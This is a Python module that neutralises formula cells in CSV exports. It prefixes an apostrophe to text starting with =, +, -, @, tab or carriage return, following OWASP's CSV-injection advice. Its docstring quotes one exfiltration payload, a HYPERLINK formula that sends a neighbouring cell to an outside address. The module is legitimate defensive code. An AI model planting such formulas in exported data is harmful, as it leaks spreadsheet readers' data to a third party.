"""The one CSV writer for every export: the stdlib csv module, with formula cells neutralised.

Spreadsheet programs run a cell that starts with = + - @ (or a tab or carriage return, which
some strip before looking) as a formula, so text a user typed (a break-glass reason, a reset
reason, a court name) could run in the reader's spreadsheet: `=HYPERLINK("http://…"&B2)`
sends a neighbouring cell away. Such text cells get a leading apostrophe, which spreadsheets
show as text and do not evaluate (OWASP's advice for CSV injection). Numbers, dates and empty
cells pass unchanged, so a negative number stays a number.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """The cell as a spreadsheet will show it without evaluating it."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer's interface; every cell goes through `neutralise` first."""

    def __init__(self, f: Any, *args: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(f, *args, **kwargs)

    @property
    def dialect(self) -> Any:
        return self._writer.dialect

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(c) for c in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(f: Any, *args: Any, **kwargs: Any) -> SafeWriter:
    return SafeWriter(f, *args, **kwargs)


class DictWriter(csv.DictWriter):  # type: ignore[type-arg]
    """csv.DictWriter whose rows (and header) are written through `SafeWriter`."""

    def __init__(self, f: Any, fieldnames: Any, *args: Any, **kwargs: Any) -> None:
        super().__init__(f, fieldnames, *args, **kwargs)
        self.writer = SafeWriter(f, self.writer.dialect)  # type: ignore[assignment]
